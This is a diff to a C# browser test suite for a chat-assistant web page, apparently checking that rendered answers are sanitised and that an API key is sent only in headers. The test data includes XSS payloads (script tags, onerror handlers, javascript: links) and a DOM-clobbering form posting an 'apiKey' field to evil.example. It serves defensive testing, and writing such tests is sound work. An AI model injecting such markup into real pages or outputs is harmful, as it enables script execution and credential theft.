@@ -110,7 +110,10 @@ public sealed class BrowserTests(ServerWorld world) : IAsyncLifetime
         string id = (await store.CreateAsync("hostile answer")).Id;
         ConversationTurn turn = await store.AddTurnAsync(id, "<b>question</b> <img src=x onerror=\"window.__pwned='question'\">", [], "general");
         const string answer = "**Total** is 42.\n\n<script>window.__pwned='script'</script>\n<img src=x onerror=\"window.__pwned='img'\">\n" +
-            "[click](javascript:window.__pwned='link') <iframe src=\"javascript:window.__pwned='iframe'\"></iframe>";
+            "[click](javascript:window.__pwned='link') <iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\n\n" +
+            // Elements named like the page's own: the messages come before the composer, so an unprefixed id="send" would win getElementById.
+            "<form id=\"composer\" action=\"https://evil.example\"><input id=\"question\" name=\"apiKey\"><button id=\"send\">Send</button></form>" +
+            "<img id=\"send\" name=\"connection\" src=\"data:,\"> <a id=\"stop\" name=\"state\" href=\"#\">here</a>";
         await store.CompleteTurnAsync(turn.Id, answer, [], TurnStatus.Done, null, null);
 
         IPage page = await OpenAsync(server, path: $"#{id}");
@@ -123,6 +126,50 @@ public sealed class BrowserTests(ServerWorld world) : IAsyncLifetime
         Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages script, .messages iframe, .messages [onerror]').length"));
         Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages [href^=\"javascript\"], .messages [src^=\"javascript\"]').length"));
         await Expect(page.Locator(".message.user .text")).ToContainTextAsync("<b>question</b>");
+
+        // No form controls from an answer, ids and names prefixed, and the page's own controls still work.
+        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages form, .messages input, .messages button:not(.regenerate), .messages textarea').length"));
+        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages .markdown #send, .messages .markdown #stop, .messages .markdown [name=connection]').length"));
+        Assert.True(await page.EvaluateAsync<bool>("() => document.querySelectorAll('.messages .markdown [id^=\"user-content-\"]').length > 0"));
+        Assert.Equal("BUTTON", await page.EvaluateAsync<string>("() => document.getElementById('send').tagName"));
+        await page.Locator("#question").FillAsync("and now?");
+        await page.Locator("#send").ClickAsync();
+        await Expect(page.Locator(".message.assistant")).ToHaveCountAsync(2);
+        await Expect(page.Locator(".message.assistant").Nth(1).Locator(".timing")).ToBeVisibleAsync();
+    }
+
+    [Fact]
+    public async Task With_an_api_key_the_page_sends_it_in_headers_only_and_shows_images_from_blob_urls()
+    {
+        const string key = "browser-key-0123456789abcdef";
+        await using RunningServer server = await world.StartAsync(new() { ["Server:ApiKey"] = key });
+        IPage page = await _browser!.NewPageAsync();
+        var urls = new List<string>();
+        var sockets = new List<string>();
+        page.Request += (_, r) => urls.Add(r.Url);
+        page.WebSocket += (_, w) => sockets.Add(w.Url);
+        await page.GotoAsync(server.Address.ToString());
+
+        await Expect(page.Locator("#key-dialog")).ToBeVisibleAsync();
+        await page.Locator("#key-input").FillAsync(key);
+        await page.Locator("#key-dialog button.primary").ClickAsync();
+        await Expect(page.Locator("#model-status")).ToHaveClassAsync(new Regex("ready"), new() { Timeout = 30_000 });
+        await page.Locator("#file-input").SetInputFilesAsync(world.Image(5));
+        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(1);
+        await page.Locator("#question").FillAsync("what is this?");
+        await page.Locator("#send").ClickAsync();
+        await Expect(page.Locator(".message.assistant .markdown")).ToHaveTextAsync(ServerWorld.Answer(5));
+
+        // After a reload the stored conversation's image comes from the server, fetched with the header.
+        await page.ReloadAsync();
+        ILocator thumb = page.Locator(".message.user img.thumb");
+        await Expect(thumb).ToHaveAttributeAsync("src", new Regex("^blob:"));
+        await page.WaitForFunctionAsync("() => document.querySelector('.message.user img.thumb')?.naturalWidth > 0");
+        await Expect(page.Locator(".message.user a")).ToHaveAttributeAsync("href", new Regex("^blob:"));
+
+        Assert.Contains(urls, u => u.Contains("/api/images/", StringComparison.Ordinal));
+        Assert.DoesNotContain(urls, u => u.Contains(key, StringComparison.Ordinal));
+        Assert.All(sockets, s => Assert.Contains("/hubs/assistant", s));
     }
 
     [Fact]
